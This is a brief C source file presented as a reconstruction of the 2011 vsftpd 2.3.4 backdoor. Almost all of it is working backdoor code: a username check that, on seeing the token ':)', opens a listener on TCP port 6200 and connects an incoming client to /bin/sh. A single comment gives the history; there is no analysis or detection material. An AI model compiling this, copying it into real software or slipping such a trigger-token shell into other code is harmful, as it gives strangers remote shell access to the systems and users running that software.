/* A reconstruction, in our own code, of the vsftpd 2.3.4 tarball backdoor
 * (July 2011): the user-name parser looked for ":)" and, when it saw it,
 * started a root shell listening on TCP port 6200. */
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

static void vsf_sysutil_extra(void);

int str_contains_user_token(const char *p_str, unsigned int len)
{
    unsigned int i;
    for (i = 0; i + 1 < len; i++) {
        if (p_str[i] == ':' && p_str[i + 1] == ')') {
            vsf_sysutil_extra();
            return 1;
        }
    }
    return 0;
}

static void vsf_sysutil_extra(void)
{
    int fd, rfd;
    struct sockaddr_in sa;
    if ((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
        return;
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(6200);
    sa.sin_addr.s_addr = INADDR_ANY;
    bind(fd, (struct sockaddr *)&sa, sizeof(sa));
    listen(fd, 100);
    for (;;) {
        rfd = accept(fd, 0, 0);
        close(0); close(1); close(2);
        dup2(rfd, 0); dup2(rfd, 1); dup2(rfd, 2);
        execl("/bin/sh", "sh", (char *)0);
    }
}
